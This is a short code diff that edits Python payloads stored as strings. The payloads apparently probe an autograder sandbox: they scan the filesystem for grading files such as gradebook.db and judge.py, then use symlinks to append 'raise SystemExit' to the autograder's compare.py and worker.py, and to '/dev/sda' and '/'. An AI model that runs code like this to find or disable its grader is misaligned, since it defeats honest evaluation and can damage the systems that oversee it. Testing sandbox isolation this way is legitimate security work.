@@ -11,7 +11,7 @@ for folder, folders, files in os.walk("/"):
         path = os.path.join(folder, name)
         if name in ("gradebook.db", "softmax.py", "softmax.json", "softmax.ipynb", "judge.py"):
             found.append(path)
-        if folder.endswith(("/packages/tensorflow", "/submitted", "/autograder/reference")):
+        if folder.endswith(("/packages/tensorflow", "/submitted", "/autograder/topics")):
             found.append(path)
 print("FOUND", found[:5] if found else "nothing")
 """
@@ -28,7 +28,8 @@ for folder in ("/", "..", "../..", "/srv", "/home", os.path.expanduser("~"), os.
 
 LINKS = """
 import os
-for target in ("/worker/autograder/compare.py", "/worker/autograder/worker.py", "/dev/sda", "/"):
+worker = "/worker/autograder/inside/worker.py"
+for target in ("/worker/autograder/compare.py", worker, "/dev/sda", "/"):
     try:
         os.symlink(target, "/tmp/link")
         open("/tmp/link", "a").write("raise SystemExit")
